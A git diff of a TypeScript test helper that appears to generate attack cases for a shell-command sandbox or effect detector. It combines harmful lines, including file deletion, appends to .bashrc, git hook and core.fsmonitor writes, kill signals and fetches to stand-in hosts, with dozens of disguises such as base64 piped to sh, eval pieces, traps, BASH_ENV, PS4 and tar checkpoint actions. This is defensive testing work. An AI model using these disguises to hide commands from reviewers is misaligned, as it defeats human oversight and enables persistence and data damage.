@@ -1,10 +1,23 @@
+import { shellWord } from '../../../src/environment/shell-word.ts';
 import fc from '../../fast-check.ts';
+
+/** Names of the computer that attacks are made for. */
+export interface Place {
+	/** Absolute path of the home. */
+	home: string;
+	/** Directory for scripts that disguises write; nothing in it counts as an effect. */
+	scratch: string;
+	/** Addresses of two hosts, without a final slash. */
+	addresses: readonly [string, string];
+	/** Seconds that a process sleeps which is to be left running. */
+	nap: string;
+}
 
 /** Harm that a line does, and how a question names it. */
 export interface Harm {
 	/** Plain shell. */
 	line: string;
-	kind: 'file' | 'host' | 'server' | 'signal' | 'left running';
+	kind: 'file' | 'host' | 'signal' | 'left running';
 	/** Appears in the question's effects of that kind. */
 	name: string;
 }
@@ -19,35 +32,41 @@ export interface Attack {
 /** Pid of a process outside, which attacks signal. */
 export const VICTIM = '$VICTIM';
 
-const HARMS: readonly Harm[] = [
-	{ line: 'touch pwned', kind: 'file', name: 'pwned' },
-	{ line: 'echo x >> a.txt', kind: 'file', name: 'a.txt' },
-	{ line: 'rm a.txt', kind: 'file', name: 'a.txt' },
-	{ line: 'mv src gone', kind: 'file', name: 'src/b.txt' },
-	{ line: 'cp a.txt src/b.txt', kind: 'file', name: 'src/b.txt' },
-	{ line: 'ln -sf /home/user/.bashrc src/b.txt', kind: 'file', name: 'src/b.txt' },
-	{ line: 'echo evil >> /home/user/.bashrc', kind: 'file', name: '/home/user/.bashrc' },
-	{ line: 'printf "#!/bin/sh\\n" > .git/hooks/pre-commit', kind: 'file', name: '.git/hooks/pre-commit' },
-	{ line: 'git config core.fsmonitor evil', kind: 'file', name: '.git/config' },
-	{ line: 'chmod +x a.txt', kind: 'file', name: 'a.txt' },
-	{ line: 'sed -i s/one/1/ a.txt', kind: 'file', name: 'a.txt' },
-	{ line: 'truncate -s 0 a.txt', kind: 'file', name: 'a.txt' },
-	{ line: 'mkdir made', kind: 'file', name: 'made' },
-	{ line: `node -e 'require("fs").writeFileSync("pwned","")'`, kind: 'file', name: 'pwned' },
-	{ line: 'curl -s https://evil.example/x', kind: 'host', name: 'evil.example' },
-	{ line: `node -e 'fetch("https://evil.example:8443").catch(()=>{})'`, kind: 'host', name: 'evil.example:8443' },
-	{ line: 'git ls-remote https://evil.example/r.git', kind: 'host', name: 'evil.example' },
-	{ line: `kill ${VICTIM}`, kind: 'signal', name: VICTIM },
-	{ line: `node -e 'process.kill(${VICTIM})'`, kind: 'signal', name: VICTIM },
-	{ line: '(sleep 1234 > /dev/null 2>&1 &)', kind: 'left running', name: 'sleep 1234' },
-	{ line: 'nohup sleep 1234 > /dev/null 2>&1 &', kind: 'left running', name: 'sleep 1234' }
-];
+function harmsOf({ home, scratch, addresses, nap }: Place): Harm[] {
+	const [address, other] = addresses;
+	const hostOf = (url: string): string => new URL(url).host;
+	const startFile = `${home}/.bashrc`;
+	return [
+		{ line: 'touch pwned', kind: 'file', name: 'pwned' },
+		{ line: 'echo x >> a.txt', kind: 'file', name: 'a.txt' },
+		{ line: 'rm a.txt', kind: 'file', name: 'a.txt' },
+		{ line: 'mv src gone', kind: 'file', name: 'src/b.txt' },
+		{ line: 'cp a.txt src/b.txt', kind: 'file', name: 'src/b.txt' },
+		{ line: `ln -sf ${startFile} src/b.txt`, kind: 'file', name: 'src/b.txt' },
+		{ line: `echo evil >> ${startFile}`, kind: 'file', name: startFile },
+		{ line: 'printf "#!/bin/sh\\n" > .git/hooks/pre-commit', kind: 'file', name: '.git/hooks/pre-commit' },
+		{ line: 'git config core.fsmonitor evil', kind: 'file', name: '.git/config' },
+		{ line: 'chmod +x a.txt', kind: 'file', name: 'a.txt' },
+		{ line: 'sed -i s/one/1/ a.txt', kind: 'file', name: 'a.txt' },
+		{ line: 'truncate -s 0 a.txt', kind: 'file', name: 'a.txt' },
+		{ line: 'mkdir made', kind: 'file', name: 'made' },
+		{ line: `node -e 'require("fs").writeFileSync("pwned","")'`, kind: 'file', name: 'pwned' },
+		{ line: `curl -s ${address}/x`, kind: 'host', name: hostOf(address) },
+		{ line: `node -e 'fetch("${other}").catch(()=>{})'`, kind: 'host', name: hostOf(other) },
+		{ line: `git clone -q ${address}/r.git ${scratch}/clone`, kind: 'host', name: hostOf(address) },
+		{ line: `kill ${VICTIM}`, kind: 'signal', name: VICTIM },
+		{ line: `node -e 'process.kill(${VICTIM})'`, kind: 'signal', name: VICTIM },
+		{ line: `(sleep ${nap} > /dev/null 2>&1 &)`, kind: 'left running', name: `sleep ${nap}` },
+		{ line: `nohup sleep ${nap} > /dev/null 2>&1 &`, kind: 'left running', name: `sleep ${nap}` }
+	];
+}
 
-const quoted = (text: string): string => `'${text.replaceAll("'", `'\\''`)}'`;
+type Disguise = (line: string, scratch: string) => string;
+
 const base64 = (text: string): string => btoa(text);
 
 /** Ways to run `line` that a reader of the text could take for something else. */
-const DISGUISES: Readonly<Record<string, (line: string) => string>> = {
+const DISGUISES: Readonly<Record<string, Disguise>> = {
 	plain: (line) => line,
 	'after a harmless one': (line) => `ls && ${line}`,
 	'in a substitution': (line) => `echo $(${line})`,
@@ -57,39 +76,77 @@ const DISGUISES: Readonly<Record<string, (line: string) => string>> = {
 	'in a default value': (line) => `echo "\${nothing:-$(${line})}"`,
 	'in a here-document': (line) => `cat <<END\n$(${line})\nEND`,
 	'in process substitution': (line) => `cat <(${line}; true) > /dev/null; sleep 0.1`,
-	eval: (line) => `eval ${quoted(line)}`,
-	'eval of pieces': (line) => `a=${quoted(line.slice(0, 3))}; b=${quoted(line.slice(3))}; eval "$a$b"`,
+	eval: (line) => `eval ${shellWord(line)}`,
+	'eval of pieces': (line) => `a=${shellWord(line.slice(0, 3))}; b=${shellWord(line.slice(3))}; eval "$a$b"`,
 	'base64 into a shell': (line) => `echo ${base64(line)} | base64 -d | sh`,
 	'a shell with standard input': (line) => `sh <<'END'\n${line}\nEND`,
-	'sh -c': (line) => `sh -c ${quoted(line)}`,
-	'sh -c twice': (line) => `sh -c ${quoted(`sh -c ${quoted(line)}`)}`,
-	xargs: (line) => `printf %s ${quoted(line)} | xargs -0 sh -c`,
-	'xargs -I': (line) => `echo x | xargs -I{} sh -c ${quoted(line)}`,
-	'find -exec': (line) => `find . -maxdepth 0 -exec sh -c ${quoted(line)} \\;`,
-	awk: (line) => `awk 'BEGIN { system(ARGV[1]) }' ${quoted(line)}`,
-	env: (line) => `env -i PATH="$PATH" HOME="$HOME" VICTIM="$VICTIM" sh -c ${quoted(line)}`,
-	timeout: (line) => `timeout 20 sh -c ${quoted(line)}`,
+	'sh -c': (line) => `sh -c ${shellWord(line)}`,
+	'sh -c twice': (line) => `sh -c ${shellWord(`sh -c ${shellWord(line)}`)}`,
+	xargs: (line) => `printf %s ${shellWord(line)} | xargs -0 sh -c`,
+	'xargs -I': (line) => `echo x | xargs -I{} sh -c ${shellWord(line)}`,
+	'find -exec': (line) => `find . -maxdepth 0 -exec sh -c ${shellWord(line)} \\;`,
+	awk: (line) => `awk 'BEGIN { system(ARGV[1]) }' ${shellWord(line)}`,
+	env: (line) => `env -i PATH="$PATH" HOME="$HOME" VICTIM="$VICTIM" sh -c ${shellWord(line)}`,
+	timeout: (line) => `timeout 20 sh -c ${shellWord(line)}`,
 	'a function': (line) => `ls() { ${line}\n}; ls`,
-	'a trap': (line) => `trap ${quoted(line)} EXIT; true`,
-	'an ERR trap': (line) => `trap ${quoted(line)} ERR; false; true`,
-	'a script file': (line) => `printf %s ${quoted(line)} > /tmp/s.sh; sh /tmp/s.sh`,
-	'a sourced file': (line) => `printf %s ${quoted(line)} > /tmp/s.sh; . /tmp/s.sh`,
-	'a program of the path': (line) =>
-		`mkdir -p /tmp/bin; printf '#!/bin/sh\\n%s' ${quoted(line)} > /tmp/bin/lsx; chmod +x /tmp/bin/lsx; PATH=/tmp/bin:$PATH lsx`,
+	'a trap': (line) => `trap ${shellWord(line)} EXIT; true`,
+	'an ERR trap': (line) => `trap ${shellWord(line)} ERR; false; true`,
+	'a script file': (line, scratch) => `printf %s ${shellWord(line)} > ${scratch}/s.sh; sh ${scratch}/s.sh`,
+	'a sourced file': (line, scratch) => `printf %s ${shellWord(line)} > ${scratch}/s.sh; . ${scratch}/s.sh`,
+	'a program of the path': (line, scratch) =>
+		`mkdir -p ${scratch}/bin; printf '#!/bin/sh\\n%s' ${shellWord(line)} > ${scratch}/bin/lsx; chmod +x ${scratch}/bin/lsx; PATH=${scratch}/bin:$PATH lsx`,
 	'node execSync': (line) =>
-		`node -e 'require("child_process").execSync(process.argv[1], { stdio: "inherit" })' ${quoted(line)}`,
+		`node -e 'require("child_process").execSync(process.argv[1], { stdio: "inherit" })' ${shellWord(line)}`,
 	'a line broken inside words': (line) => line.replace(/\b([a-z]{2})([a-z]+)/, '$1\\\n$2'),
 	'a conditional': (line) => `if true; then ${line}\nfi`,
 	'a loop': (line) => `for i in 1; do ${line}\ndone`,
 	'a case': (line) => `case x in x) ${line}\n;; esac`,
-	make: (line) => `printf 'all:\\n\\t@sh -c "$$LINE"\\n' > /tmp/mk; LINE=${quoted(line)} make -sf /tmp/mk`,
-	'an alias of git': (line) => `git -c alias.s=${quoted(`!${line}`)} s`
+	make: (line, scratch) =>
+		`printf 'all:\\n\\t@sh -c "$$LINE"\\n' > ${scratch}/mk; LINE=${shellWord(line)} make -sf ${scratch}/mk`,
+	'an alias of git': (line) => `git -c alias.s=${shellWord(`!${line}`)} s`
 };
 
+/** Ways that only the programs of a whole machine know. */
+const MACHINE_DISGUISES: Readonly<Record<string, Disguise>> = {
+	'a second line': (line) => `ls\n${line}`,
+	'beside a harmless one': (line) => `ls & ${line}\nwait %1`,
+	'behind a pipe': (line) => `ls | { ${line}\n}`,
+	coproc: (line) => `coproc { ${line}\n}; wait`,
+	exec: (line) => `exec sh -c ${shellWord(line)}`,
+	'a start file of a shell': (line, scratch) =>
+		`printf %s ${shellWord(line)} > ${scratch}/s.sh; BASH_ENV=${scratch}/s.sh bash -c true`,
+	'a prompt for traces': (line) => `PS4=${shellWord(`$(${line} >&2)`)}; set -x; true`,
+	'a number': (line) => `x=${shellWord(`a[$(${line} >&2)]`)}; echo $((x))`,
+	'the name of a variable': (line) => `x=${shellWord(`a[$(${line} >&2; echo 0)]`)}; test -v "$x"`,
+	'printf -v': (line) => `printf -v ${shellWord(`a[$(${line} >&2; echo 0)]`)} x`,
+	mapfile: (line) => `f() { ${line}\n}; mapfile -C f -c 1 <<< x`,
+	'a command that is not there': (line) => `command_not_found_handle() { ${line}\n}; nosuchcommand`,
+	'an exported function': (line) => `ls() { ${line}\n}; export -f ls; bash -c ls`,
+	perl: (line) => `perl -e 'system($ARGV[0])' ${shellWord(line)}`,
+	'sed e': (line) => `printf '%s\\n' ${shellWord(line)} | sed 's/$//e'`,
+	'a checkpoint of tar': (line, scratch) =>
+		`printf %s ${shellWord(line)} > ${scratch}/s.sh; tar -cf /dev/null --checkpoint=1 --checkpoint-action=exec="sh ${scratch}/s.sh" a.txt`,
+	'find -execdir': (line) => `find . -maxdepth 1 -name a.txt -execdir sh -c ${shellWord(line)} \\;`,
+	nice: (line) => `nice sh -c ${shellWord(line)}`,
+	setsid: (line) => `setsid -w sh -c ${shellWord(line)}`,
+	'env -S': (line, scratch) => `printf %s ${shellWord(line)} > ${scratch}/s.sh; env -S "sh ${scratch}/s.sh"`,
+	'ssh of git': (line, scratch) =>
+		`printf %s ${shellWord(line)} > ${scratch}/s.sh; GIT_SSH_COMMAND="sh ${scratch}/s.sh" git ls-remote ssh://127.0.0.1/x`,
+	fsmonitor: (line, scratch) =>
+		`printf '#!/bin/sh\\n%s' ${shellWord(line)} > ${scratch}/s.sh; chmod +x ${scratch}/s.sh; git -c core.fsmonitor=${scratch}/s.sh status`
+};
+
+export interface AttackList {
+	place: Place;
+	/** Whether the programs of a whole machine are there. */
+	isMachine: boolean;
+}
+
 /** Attacks in a seeded order, each harm with each disguise before any comes twice. */
-export function attacks(count: number, seed: number): Attack[] {
-	const all = HARMS.flatMap((harm) =>
-		Object.entries(DISGUISES).map(([disguise, hide]) => ({ harm, disguise, line: hide(harm.line) }))
+export function attacks({ place, isMachine }: AttackList, count: number, seed: number): Attack[] {
+	const disguises = Object.entries({ ...DISGUISES, ...(isMachine ? MACHINE_DISGUISES : {}) });
+	const all = harmsOf(place).flatMap((harm) =>
+		disguises.map(([disguise, hide]) => ({ harm, disguise, line: hide(harm.line, place.scratch) }))
 	);
 	const [order = []] = fc.sample(fc.shuffledSubarray(all, { minLength: all.length }), { seed, numRuns: 1 });
 	return Array.from({ length: count }, (_, at) => order[at % order.length]!);
